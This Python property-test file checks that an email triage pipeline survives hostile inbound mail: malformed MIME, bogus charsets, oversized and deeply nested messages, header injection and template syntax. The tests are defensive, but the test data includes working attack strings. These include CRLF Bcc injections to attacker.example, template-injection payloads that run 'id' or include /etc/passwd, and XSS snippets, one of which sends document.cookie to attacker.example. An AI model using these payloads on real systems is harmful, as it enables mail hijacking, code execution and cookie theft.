"""Hostile input: whatever a stranger mails the support address, parse -> classify -> draft holds.

Property tests over the pure layers, no network: parsing never raises out of `parse_one`
(a message is parsed or failed with a reason), a message over the size limit is never
parsed, and a draft never carries an injected header nor runs the customer's text as a
template. Drafts are read back with the stdlib parser, as a mail client would read them.
"""

from __future__ import annotations

import base64
import email
import email.policy
import email.utils
import re
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from email.message import EmailMessage
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st

from tests.conftest import REPO
from triage import app

# PIPELINE-NAMESPACE
from triage import config as config_module
from triage.domain import (
    Action,
    Classification,
    Decision,
    Draft,
    Label,
    MessageRef,
    Outcome,
    ParsedMessage,
    RawMessage,
)
from triage.pipeline import planning
from triage.pipeline.engine import Engine, MessagePlan
from triage.pipeline.planning import parse_one, plan_batch
from triage.state.store import Store

NOW = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)
LIMIT = 64 * 1024  # mailbox.max_message_bytes for these tests
SLOW_PARSE_SECONDS = 10.0  # ~10x what a 2-core machine needs for the worst case below
DRAFT_HEADERS = ["From", "To", "Subject", "Date", "Message-ID"]
DRAFT_TRAILER = ["X-Triage", "MIME-Version", "Content-Type", "Content-Transfer-Encoding"]
ADDRESS_SYNTAX = '<>@,;:"\\()[]'
_HEADER_LINE = re.compile(rb"^([!-9;-~]+): ")

FEW = settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
SOME = settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
MANY = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


# ---------------------------------------------------------------- the real engine, in a temp dir


class Shipped:
    """The engine `triage run` builds (shipped model and templates, a 64 KiB limit) and a store."""

    def __init__(self, engine: Engine, store: Store) -> None:
        self.engine, self.store = engine, store

    def __repr__(self) -> str:  # hypothesis prints it with every failing example
        return "Shipped()"

    def plan(self, data: bytes) -> MessagePlan:
        """One message through the whole pure pipeline: parse, screen, classify, decide, draft."""
        (result,) = self.plan_batch([raw_message(data)])
        return result

    def plan_batch(self, raws: list[RawMessage]) -> list[MessagePlan]:
        return plan_batch(raws, self.engine, self.store, NOW)

    def draft(self, message: ParsedMessage, template: str = "complaint") -> Draft:
        """A draft whatever the model would say: the template is chosen, not predicted."""
        if template == "needs_review":
            classification = Classification(Label.COMPLAINT, 0.4, "v")
            decision = Decision(Action.REVIEW, "unsure", classification, template)
        else:
            decision = Decision(Action.DRAFT, "model", Classification(Label(template), 0.9, "v"), template)
        return self.engine.drafter.render(message, decision, "key-1", NOW)


@pytest.fixture(scope="module")
def shipped(tmp_path_factory: pytest.TempPathFactory) -> Shipped:
    root = tmp_path_factory.mktemp("hostile")
    config = config_module.from_mapping(
        {
            "mailbox": {"url": f"maildir://{root / 'Maildir'}", "max_message_bytes": LIMIT},
            "team": {"address": "support@northwind.example"},
            "classifier": {"model_dir": str(REPO / "models")},
            "drafting": {"templates_dir": str(REPO / "templates")},
            "state": {"database": str(root / "state.sqlite3")},
        },
        {},
        root,
    )
    return Shipped(app.build_engine(config), Store(root / "state.sqlite3"))


def raw_message(data: bytes, uid: int = 1, size: int | None = None) -> RawMessage:
    return RawMessage(MessageRef("hostile", "INBOX", 1, uid), data, NOW, len(data) if size is None else size)


def parsed(data: bytes) -> ParsedMessage:
    result = parse_one(data, NOW)
    assert isinstance(result, ParsedMessage), result
    return result


def read_draft(draft: Draft) -> EmailMessage:
    message = email.message_from_bytes(draft.data, policy=email.policy.default)
    assert isinstance(message, EmailMessage)
    return message


def mail(*headers: tuple[str, bytes], body: bytes = b"My order NW-1 arrived broken.\r\n") -> bytes:
    head = b"".join(name.encode() + b": " + value + b"\r\n" for name, value in headers)
    return head + b"\r\n" + body


def customer(*extra: tuple[str, bytes], body: bytes = b"My order NW-1 arrived broken.\r\n") -> bytes:
    """A customer's message with a sane sender and whatever headers and body the test adds."""
    return mail(
        ("From", b"Jane Doe <jane@example.org>"), ("To", b"support@northwind.example"), *extra, body=body
    )


def encoded_word(data: bytes, charset: str = "utf-8", encoding: str = "b") -> bytes:
    """RFC 2047: the bytes as one encoded-word, "b" (base64) or "q" (every byte as =XX)."""
    if encoding == "b":
        text = base64.b64encode(data)
    else:
        text = b"".join(b"=%02X" % byte for byte in data)
    return b"=?" + charset.encode() + b"?" + encoding.encode() + b"?" + text + b"?="


# ---------------------------------------------------------------- strategies

INJECTIONS = (
    "\r\nBcc: evil@attacker.example",
    "\nBcc: evil@attacker.example",
    "\rBcc: evil@attacker.example",
    "\r\nX-Injected: yes",
    "\r\n\r\n<h1>new body</h1>",
    "\r\n Bcc: folded@attacker.example",
    "\r\nTo: evil@attacker.example",
    "\r\nContent-Type: text/html",
    "\u2028Bcc: evil@attacker.example",  # a line separator only to str.splitlines
    "\x85Bcc: evil@attacker.example",
)
PUNCTUATION = "\r\n\t :;,<>@\"'()[]\\=?_-."
ascii_text = st.text(alphabet=st.sampled_from("abcXYZ019" + PUNCTUATION), max_size=12)
any_text = st.text(
    alphabet=st.one_of(st.sampled_from("abcXYZ019" + PUNCTUATION), st.characters(codec="utf-8")), max_size=12
)


def hostile(pieces: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    return st.lists(st.one_of(st.sampled_from(INJECTIONS), pieces), max_size=5).map("".join)


@st.composite
def header_value(draw: st.DrawFn, pieces: st.SearchStrategy[str]) -> bytes:
    """Hostile text as a header value: raw (CR/LF split the original's own header) or RFC 2047."""
    text = draw(hostile(pieces))
    how = draw(st.sampled_from(("raw", "b", "q")))
    data = text.encode("utf-8")
    return data if how == "raw" else encoded_word(data, "utf-8", how)


# ---------------------------------------------------------------- never raises: bytes and MIME


def is_parsed_or_failed(result: ParsedMessage | str) -> bool:
    return isinstance(result, ParsedMessage) or result.startswith("malformed: ")


@MANY
@given(data=st.binary(max_size=2048))
@example(data=b"")
@example(data=b"\r\n\r\n")
@example(data=b"From:\r\n\r\n")
@example(data=b"\xff\xfe\x00F\x00r\x00o\x00m\x00:")
def test_arbitrary_bytes_are_parsed_or_failed_with_a_reason(data: bytes) -> None:
    assert is_parsed_or_failed(parse_one(data, NOW))


MIME_HEADERS = (
    b"MIME-Version: 1.0",
    b"MIME-Version: 999",
    b'Content-Type: multipart/mixed; boundary="B"',
    b"Content-Type: multipart/mixed; boundary=",
    b"Content-Type: multipart/mixed",
    b'Content-Type: multipart/alternative; boundary="B"; boundary="C"',
    b"Content-Type: multipart/report; report-type=delivery-status; boundary=B",
    b"Content-Type: message/rfc822",
    b"Content-Type: text/html",
    b"Content-Type: text/plain; charset=\xff\xfe",
    b"Content-Type: ;;;==;",
    b"Content-Type: \x00/\x00",
    b"Content-Transfer-Encoding: base64",
    b"Content-Transfer-Encoding: quoted-printable",
    b"Content-Transfer-Encoding: x-uuencode",
    b"Content-Transfer-Encoding: bogus",
    b"Content-Disposition: attachment; filename*=x-bogus''%FF%FE; filename=\"a\r\n.txt\"",
    b"Content-Disposition: attachment; filename*0*=utf-8''%E2; filename*1=%82%AC",
    b"Date: Thu, 19 Nov 2026 10:00:00",
    b"Date: yesterday",
    b"Date: Fri, 31 Dec 9999 23:59:59 +0000",
    b"Message-ID: <<<>>>",
    b"References: <a@b> <c@d",
    b"In-Reply-To: \x00",
    b"Subject: =?utf-8?b?!!!?=",
)
MIME_BODIES = (
    b"--B\r\nContent-Type: text/plain\r\n\r\nfirst part\r\n",
    b"--B\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\n",
    b"--B--\r\n",
    b"--C\r\n\r\n",
    b"=\r\n=ZZ=\r\n",
    b"begin 644 x.txt\r\n#86)C\r\n`\r\nend\r\n",
    b"!!!not base64@@@\r\n",
    b"<html><body><p>unclosed <b><i><table><tr><td>",
    b"\x1b$B$3$s$K$A$O\x1b(B\r\n",
    b"\xff\xfe\xfd\r\n",
    b"\r\n\r\n\r\n",
)


@MANY
@given(
    headers=st.lists(st.sampled_from(MIME_HEADERS), max_size=8),
    bodies=st.lists(st.one_of(st.sampled_from(MIME_BODIES), st.binary(max_size=40)), max_size=8),
)
def test_malformed_mime_is_parsed_or_failed_with_a_reason(headers: list[bytes], bodies: list[bytes]) -> None:
    data = b"From: Jane <jane@example.org>\r\n" + b"\r\n".join(headers) + b"\r\n\r\n" + b"".join(bodies)
    assert is_parsed_or_failed(parse_one(data, NOW))


@SOME
@given(
    headers=st.lists(st.sampled_from(MIME_HEADERS), max_size=6),
    body=st.one_of(st.binary(max_size=300), st.sampled_from(MIME_BODIES)),
)
def test_one_bad_message_never_stops_the_batch(shipped: Shipped, headers: list[bytes], body: bytes) -> None:
    bad = b"From: Jane <jane@example.org>\r\n" + b"\r\n".join(headers) + b"\r\n\r\n" + body
    good = customer(("Message-ID", b"<good@example.org>"), ("Subject", b"Broken tent"))
    plans = shipped.plan_batch([raw_message(bad, 1), raw_message(b"", 2), raw_message(good, 3)])
    assert [p.ref.uid for p in plans] == [1, 2, 3]
    assert plans[1].outcome is Outcome.FAILED and plans[1].reason == "malformed: empty message"
    assert plans[2].outcome in (Outcome.DRAFTED, Outcome.NEEDS_REVIEW) and plans[2].draft is not None


# ---------------------------------------------------------------- unknown and bogus charsets

BOGUS_CHARSETS = (
    "x-bogus",
    "unknown-8bit",
    "utf-99",
    "../../etc/passwd",
    "",
    "utf-7",
    "utf-16",
    "utf-32",
    "idna",
    "rot13",
    "hex",
    "base64",
    "zlib",
    "punycode",
    "uu",
    "iso-2022-jp",
    "cp1252",
    "x-user-defined",
)
charset_name = st.one_of(
    st.sampled_from(BOGUS_CHARSETS),
    # token characters only: non-ASCII or NUL in a charset name are the known bugs at the end of this file
    st.text(alphabet="abcxyzUTF0189-_", max_size=16),
)


@SOME
@given(
    charset=charset_name,
    encoding=st.sampled_from(("b", "q")),
    payload=st.binary(max_size=40),
    where=st.sampled_from(("Subject", "From")),
)
@example(charset="x-bogus", encoding="q", payload=b"hello", where="Subject")
@example(charset="utf-8", encoding="b", payload=b"\xff\xfe\xfd", where="Subject")
@example(charset="zlib", encoding="b", payload=b"x\x9c\xcbH\xcd\xc9\xc9\x07\x00\x06,\x02\x15", where="From")
def test_bogus_header_charsets_never_lose_the_message(
    shipped: Shipped, charset: str, encoding: str, payload: bytes, where: str
) -> None:
    word = encoded_word(payload, charset, encoding)
    if where == "Subject":
        data = customer(("Subject", word))
    else:
        data = mail(("From", word + b" <jane@example.org>"), ("Subject", b"Broken tent"))
    message = parsed(data)
    assert "\r" not in message.subject and "\n" not in message.subject
    decoded_name = (message.header("from") or "").removesuffix(" <jane@example.org>")
    if where == "From" and set(decoded_name) & set(ADDRESS_SYNTAX):
        event("display name decodes to address syntax: the known bugs at the end of this file")
        return
    assert message.sender.address == "jane@example.org"
    draft = shipped.draft(message)
    assert header_names(draft) == expected_headers(message)


@SOME
@given(
    charset=charset_name,
    transfer=st.sampled_from(("7bit", "8bit", "binary", "quoted-printable", "x-bogus", None)),
    subtype=st.sampled_from(("plain", "html")),
    noise=st.binary(max_size=40),
)
def test_bogus_body_charsets_keep_the_customers_words(
    shipped: Shipped, charset: str, transfer: str | None, subtype: str, noise: bytes
) -> None:
    words = b"My order NW-1 arrived broken"
    body = words + b"\r\n" + noise.replace(b"=", b"") + b"\r\n"
    if subtype == "html":
        body = b"<p>" + words + b"</p><p>" + noise.replace(b"<", b"").replace(b"=", b"") + b"</p>\r\n"
    extra = [("MIME-Version", b"1.0"), ("Content-Type", f'text/{subtype}; charset="{charset}"'.encode())]
    if transfer:
        extra.append(("Content-Transfer-Encoding", transfer.encode()))
    message = parsed(customer(*extra, body=body))
    if reads_ascii_as_ascii(charset):  # a real charset that is not ASCII-compatible gives what it says
        assert words.decode() in message.text
        assert "order NW-1 arrived broken" in shipped.draft(message).body  # told back: "your order ..."


def reads_ascii_as_ascii(charset: str) -> bool:
    """True for ASCII-compatible charsets and for charsets Python does not know."""
    try:
        return b"My order NW-1 arrived broken".decode(charset) == "My order NW-1 arrived broken"
    except LookupError:
        return True
    except UnicodeError:
        return False


# ---------------------------------------------------------------- too large: skipped, never parsed


@contextmanager
def parses_recorded() -> Iterator[list[bytes]]:
    """Every message plan_batch hands to the parser, while the real parser still parses."""
    calls: list[bytes] = []

    def spy(data: bytes, internaldate: datetime) -> ParsedMessage | str:
        calls.append(data)
        return parse_one(data, internaldate)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(planning, "parse_one", spy)
        yield calls


@SOME
@given(over=st.integers(min_value=1, max_value=10**10), data_kept=st.booleans())
def test_a_message_over_the_size_limit_is_failed_as_too_large_and_never_parsed(
    shipped: Shipped, over: int, data_kept: bool
) -> None:
    size = shipped.engine.max_message_bytes + over
    # inboxes hand over b"" for a message over the limit; even its bytes would not be parsed
    data = customer(body=b"x" * 80 + b"\r\n") if data_kept else b""
    with parses_recorded() as calls:
        (result,) = shipped.plan_batch([raw_message(data, size=size)])
    assert calls == []
    assert result.outcome is Outcome.FAILED and result.draft is None
    assert result.reason == f"too large: {size} bytes > limit {shipped.engine.max_message_bytes}"


def test_a_message_at_the_size_limit_is_parsed(shipped: Shipped) -> None:
    data = customer(("Subject", b"Broken tent"))
    with parses_recorded() as calls:
        (result,) = shipped.plan_batch([raw_message(data, size=shipped.engine.max_message_bytes)])
    assert calls == [data]
    assert result.outcome is not Outcome.FAILED


def test_a_large_message_in_a_real_maildir_is_skipped_and_the_rest_drafted(
    shipped: Shipped, tmp_path: Path
) -> None:
    from triage.adapters.maildir_inbox import MaildirInbox

    inbox = MaildirInbox(tmp_path / "Maildir")
    small = customer(("Message-ID", b"<small@example.org>"), ("Subject", b"Broken tent"))
    large = customer(("Message-ID", b"<large@example.org>"), body=b"A" * 76 * (LIMIT // 76 + 10))
    for name, data in (("1.a.host", large), ("2.b.host", small)):
        (tmp_path / "Maildir" / "new" / name).write_bytes(data)
    _, uids = inbox.list_uids(above=0)
    with parses_recorded() as calls:
        plans = shipped.plan_batch(inbox.fetch(uids, shipped.engine.max_message_bytes))
    assert [p.outcome is Outcome.FAILED for p in plans] == [True, False]
    assert plans[0].reason == f"too large: {len(large)} bytes > limit {LIMIT}"
    assert calls == [small]


# ---------------------------------------------------------------- many attachments, deep nesting


def timed(parse: Callable[[], ParsedMessage | str]) -> ParsedMessage | str:
    start = time.monotonic()
    result = parse()
    assert time.monotonic() - start < SLOW_PARSE_SECONDS
    return result


def with_attachments(count: int, filename: bytes = b"f%d.bin") -> bytes:
    parts = [b"--B\r\nContent-Type: text/plain\r\n\r\nSee the attached photos of the broken tent.\r\n"]
    for i in range(count):
        name = filename.replace(b"%d", str(i).encode())
        parts.append(
            b"--B\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
            b'Content-Disposition: attachment; filename="' + name + b'"\r\n\r\nAAECAw==\r\n'
        )
    return customer(
        ("MIME-Version", b"1.0"),
        ("Content-Type", b'multipart/mixed; boundary="B"'),
        body=b"".join(parts) + b"--B--\r\n",
    )


@FEW
@given(
    count=st.integers(min_value=0, max_value=400),
    filename=st.sampled_from(
        (b"f%d.bin", b"../../etc/passwd%d", b"=?x-bogus?q?%d?=", b"a\xff%d\x00.exe", b"")
    ),
)
@example(count=200, filename=b"f%d.bin")
def test_many_attachments_are_all_listed(shipped: Shipped, count: int, filename: bytes) -> None:
    result = timed(lambda: parse_one(with_attachments(count, filename), NOW))
    assert isinstance(result, ParsedMessage), result
    assert len(result.attachments) == count
    assert "See the attached photos" in shipped.draft(result).body


def nested_multipart(depth: int) -> bytes:
    head = b"".join(
        b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (i, i) for i in range(depth)
    )
    tail = b"".join(b"\r\n--b%d--\r\n" % i for i in reversed(range(depth)))
    return (
        b"From: Jane <jane@example.org>\r\nMIME-Version: 1.0\r\n"
        + head
        + (b"Content-Type: text/plain\r\n\r\nThe innermost words.\r\n" + tail)
    )


def nested_forwards(depth: int) -> bytes:
    inner = b"From: Jane <jane@example.org>\r\nSubject: innermost\r\n\r\nThe innermost words.\r\n"
    for _ in range(depth):
        inner = (
            b"From: Jane <jane@example.org>\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n"
            + inner
        )
    return inner


@pytest.mark.parametrize("build", [nested_multipart, nested_forwards], ids=["multipart", "message-rfc822"])
@pytest.mark.parametrize("depth", [100, 1000])
def test_deep_nesting_is_parsed_or_failed_with_a_reason_in_reasonable_time(
    build: Callable[[int], bytes], depth: int
) -> None:
    result = timed(lambda: parse_one(build(depth), NOW))
    assert is_parsed_or_failed(result)
    if depth == 100 and build is nested_multipart:
        assert isinstance(result, ParsedMessage) and "The innermost words." in result.text


@FEW
@given(
    depth=st.integers(min_value=0, max_value=300), build=st.sampled_from([nested_multipart, nested_forwards])
)
def test_any_nesting_depth_is_parsed_or_failed_with_a_reason(
    build: Callable[[int], bytes], depth: int
) -> None:
    assert is_parsed_or_failed(timed(lambda: parse_one(build(depth), NOW)))


# ---------------------------------------------------------------- no header injection into drafts


def header_names(draft: Draft) -> list[str]:
    """The draft's header names, read line by line from its bytes; every line ends in CRLF."""
    head, separator, _ = draft.data.partition(b"\r\n\r\n")
    assert separator, "a draft has a header block and a body"
    names = []
    for line in head.split(b"\r\n"):
        assert b"\r" not in line and b"\n" not in line, line
        if line[:1] in (b" ", b"\t"):
            continue  # a folded continuation of the header above
        match = _HEADER_LINE.match(line)
        assert match, f"not a header line: {line!r}"
        names.append(match.group(1).decode())
    return names


def expected_headers(message: ParsedMessage) -> list[str]:
    threaded = []
    if message.message_id:
        threaded.append("In-Reply-To")
    if message.message_id or message.references:
        threaded.append("References")
    return DRAFT_HEADERS + threaded + DRAFT_TRAILER


def assert_no_injection(draft: Draft, message: ParsedMessage) -> None:
    expected = expected_headers(message)
    assert header_names(draft) == expected
    read = read_draft(draft)
    assert read.keys() == expected
    for name, value in read.items():
        assert "\r" not in str(value) and "\n" not in str(value), (name, value)
    assert read.get_content_type() == "text/plain" and not read.is_multipart()
    assert read["From"] == "Support Team <support@northwind.example>"


@MANY
@given(
    display_name=header_value(ascii_text),
    reply_to=st.one_of(st.none(), header_value(ascii_text)),
    subject=header_value(any_text),
    message_id=header_value(any_text),
    references=header_value(any_text),
)
@example(
    display_name=b"Jane\r\nBcc: evil@attacker.example",
    reply_to=b"=?utf-8?q?a=0D=0ABcc=3A_evil=40attacker=2Eexample?= <r@example.org>",
    subject=b"=?utf-8?q?Hi=0D=0ABcc=3A_evil=40attacker=2Eexample?=",
    message_id=b"<a@b>\r\nBcc: evil@attacker.example",
    references=b"=?utf-8?b?PGFAYj4NCkJjYzogZXZpbEBhdHRhY2tlci5leGFtcGxl?=",
)
def test_cr_lf_in_the_customers_headers_never_inject_a_header_into_the_draft(
    shipped: Shipped,
    display_name: bytes,
    reply_to: bytes | None,
    subject: bytes,
    message_id: bytes,
    references: bytes,
) -> None:
    headers = [("From", display_name + b" <jane@example.org>")]
    if reply_to is not None:
        headers.append(("Reply-To", reply_to))
    headers += [("Subject", subject), ("Message-ID", message_id), ("References", references)]
    result = parse_one(mail(*headers), NOW)
    assert is_parsed_or_failed(result)
    if isinstance(result, str):
        event("no draft: " + result[:30])
        return  # e.g. the raw CR/LF ended the original's From before any address
    event("drafted")
    for template in ("complaint", "needs_review"):
        assert_no_injection(shipped.draft(result, template), result)


@SOME
@given(subject=header_value(any_text), message_id=header_value(any_text))
def test_drafts_from_the_whole_pipeline_carry_no_injected_header(
    shipped: Shipped, subject: bytes, message_id: bytes
) -> None:
    data = customer(("Subject", subject), ("Message-ID", message_id))
    result = shipped.plan(data)
    assert result.draft is not None, result.reason
    assert_no_injection(result.draft, parsed(data))


# ---------------------------------------------------------------- template syntax is text


TEMPLATE_ATTACKS = (
    "{{ 7*7 }}",
    "{{7*'7'}}",
    "{% for x in range(3) %}boom{% endfor %}",
    "{{ ''.__class__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ config.items() }}",
    "{{ lipsum.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% raw %}",
    "{% endraw %}",
    "{#",
    "{{",
    "}}",
    "{% set x = 7*7 %}{{ x }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
)
EXECUTED = ("49", "7777777", "<class", "boomboomboom", "root:", "uid=", "<function", "<module")
plain_word = st.text(alphabet="abcdefghijXYZ", min_size=1, max_size=8)


@MANY
@given(
    # at most 3 pieces: the restated problem keeps 240 characters, and all of them must show
    body=st.lists(st.one_of(st.sampled_from(TEMPLATE_ATTACKS), plain_word), min_size=1, max_size=3),
    subject=st.lists(st.one_of(st.sampled_from(TEMPLATE_ATTACKS), plain_word), min_size=1, max_size=4),
)
@example(body=["{{ 7*7 }}", "{% for x in range(3) %}boom{% endfor %}"], subject=["{{ ''.__class__ }}"])
@example(body=["hi", "{{ 7*7 }}"], subject=["hi", "{{ 7*7 }}"])  # once dropped whole as a greeting
def test_template_syntax_from_the_customer_is_printed_literally_never_run(
    shipped: Shipped, body: list[str], subject: list[str]
) -> None:
    body_text, subject_text = " ".join(" ".join(body).split()), " ".join(" ".join(subject).split())
    message = parsed(customer(("Subject", subject_text.encode()), body=body_text.encode() + b"\r\n"))
    complaint, review = shipped.draft(message, "complaint"), shipped.draft(message, "needs_review")
    for piece in body:  # a greeting ("hi") may go; what looks like a template is their text, shown as is
        if piece in TEMPLATE_ATTACKS:
            assert piece in complaint.body and piece in review.body  # both restate their problem
    assert subject_text in review.body  # the acknowledgement names their subject
    for draft in (complaint, review):
        assert read_draft(draft)["Subject"] == f"Re: {subject_text}"
        assert read_draft(draft).get_content().replace("\r\n", "\n") == draft.body.replace("\r\n", "\n")
        for trace in EXECUTED:
            assert trace not in draft.body and trace not in draft.subject


# ---------------------------------------------------------------- HTML and scripts


SCRIPTS = (
    "alert(document.cookie)",
    "fetch('https://attacker.example/?c='+document.cookie)",
    "</script><script>alert(1)",
    "document.write('<iframe src=https://attacker.example>')",
)


@SOME
@given(
    script=st.sampled_from(SCRIPTS),
    tag=st.sampled_from(("script", "SCRIPT", "script type='text/javascript'", "style")),
    alternative=st.booleans(),
)
def test_an_html_body_becomes_a_plain_text_draft_without_its_script(
    shipped: Shipped, script: str, tag: str, alternative: bool
) -> None:
    words = "My order NW-1 arrived broken."
    closing = tag.split()[0]
    html = f"<html><head><{tag}>{script}</{closing}></head><body><p>{words}</p><{tag}>{script}</{closing}>"
    html += "<img src=x onerror=alert(1)></body></html>"
    if alternative:  # the usual shape: a plain part and an HTML part
        body = (
            f"--B\r\nContent-Type: text/plain\r\n\r\n{words}\r\n"
            f"--B\r\nContent-Type: text/html\r\n\r\n{html}\r\n--B--\r\n"
        )
        content_type = b'multipart/alternative; boundary="B"'
    else:
        body, content_type = html + "\r\n", b"text/html; charset=utf-8"
    data = customer(
        ("Subject", b"Broken tent"),
        ("MIME-Version", b"1.0"),
        ("Content-Type", content_type),
        body=body.encode(),
    )
    message = parsed(data)
    result = shipped.plan(data)
    assert words in message.text and script not in message.text
    for draft in (shipped.draft(message), result.draft):
        assert draft is not None, result.reason
        read = read_draft(draft)
        assert read.get_content_type() == "text/plain" and not read.is_multipart()
        assert "<" not in draft.body and script not in draft.body


@pytest.mark.parametrize("script", SCRIPTS)
def test_markup_in_a_plain_text_body_is_shown_as_written(shipped: Shipped, script: str) -> None:
    text = f"My order broke <script>{script}</script> <b>help</b> &amp;"
    draft = shipped.draft(parsed(customer(body=text.encode() + b"\r\n")))
    # not escaped to &lt;: a plain-text draft is never rendered as HTML (links are left out of a restatement)
    assert "order broke <script>" in draft.body and "</script> <b>help</b> &amp;" in draft.body
    assert "&lt;" not in draft.body
    assert read_draft(draft).get_content_type() == "text/plain"


# ---------------------------------------------------------------- found by these tests and the fuzzer, fixed


@pytest.mark.parametrize(
    "extra",
    [
        (("From", b"J\xc3\xa4ne <j\xc3\xa4ne@example.org>"),),
        (("From", b"=?utf-8?q?j=C3=A4ne=40example=2Eorg?="),),
        (("From", b"jane@example.org"), ("Reply-To", b"=?utf-8?q?r=C3=A9ponse=40example=2Eorg?=")),
    ],
    ids=["raw-utf8-from", "encoded-from", "encoded-reply-to"],
)
def test_a_non_ascii_address_never_stops_the_batch(
    shipped: Shipped, extra: tuple[tuple[str, bytes], ...]
) -> None:
    bad = mail(*extra, ("Subject", b"Broken tent"), ("Message-ID", b"<utf8@example.org>"))
    good = customer(("Message-ID", b"<good-2@example.org>"), ("Subject", b"Broken tent"))
    plans = shipped.plan_batch([raw_message(bad, 1), raw_message(good, 2)])
    assert plans[1].draft is not None


@pytest.mark.parametrize(
    "display_name",
    [
        b"=?utf-8?q?Jane_=3Csupport=40northwind=2Eexample=3E?=",  # "Jane <support@northwind.example>"
        b"=?utf-8?q?Jane=0D=0ABcc=3A_evil=40attacker=2Eexample?=",  # "Jane\r\nBcc: evil@attacker.example"
        b"=?utf-8?q?J=C3=A4ne_=28Sales?=",  # "J\u00e4ne (Sales": the address becomes "j\u00e4ne", no draft
    ],
    ids=["own-address", "second-address", "open-parenthesis"],
)
def test_an_encoded_display_name_cannot_change_the_senders_address(display_name: bytes) -> None:
    message = parsed(mail(("From", display_name + b" <jane@example.org>"), ("Subject", b"Broken tent")))
    assert message.sender.address == "jane@example.org"


def test_a_date_out_of_range_falls_back_to_the_servers_date() -> None:
    data = customer(("Subject", b"Broken tent"), ("Date", b"Fri, 31 Dec 9999 23:59:59 -0100"))
    message = parse_one(data, NOW)
    assert isinstance(message, ParsedMessage), message
    assert message.date == NOW and not message.date_from_header


# the stdlib reader shows the Subject with a line break and refuses the To header (ValueError)
@pytest.mark.parametrize("where", ["Subject", "From"])
def test_an_undecodable_encoded_word_never_reads_as_a_line_break_in_the_draft(
    shipped: Shipped, where: str
) -> None:
    word = b"=?x-bogus?q?Hi=0D=0ABcc=3A_evil=40attacker=2Eexample?="  # "Hi\r\nBcc: evil@..." in no charset
    if where == "Subject":
        data = customer(("Subject", word))
    else:
        data = mail(("From", word + b" <jane@example.org>"), ("Subject", b"Broken tent"))
    read = read_draft(shipped.draft(parsed(data)))
    for name in ("Subject", "To"):
        assert "\r" not in read[name] and "\n" not in read[name], (name, read[name])


@pytest.mark.parametrize(
    "header",
    [("X-Note", b"=?\xc3\xa4?q?hi?="), ("Subject", b"=?utf\xff-8?q?hi?=")],
    ids=["x-note", "subject"],
)
def test_a_non_ascii_charset_name_in_any_header_never_fails_the_message(header: tuple[str, bytes]) -> None:
    result = parse_one(customer(header), NOW)
    assert isinstance(result, ParsedMessage), result


def test_a_nul_in_the_body_charset_never_fails_the_message() -> None:
    data = customer(
        ("MIME-Version", b"1.0"),
        ("Content-Type", b'text/plain; charset="utf\x00-8"'),
        ("Content-Transfer-Encoding", b"8bit"),
        body=b"caf\xc3\xa9: my order NW-1 arrived broken.\r\n",
    )
    result = parse_one(data, NOW)
    assert isinstance(result, ParsedMessage), result
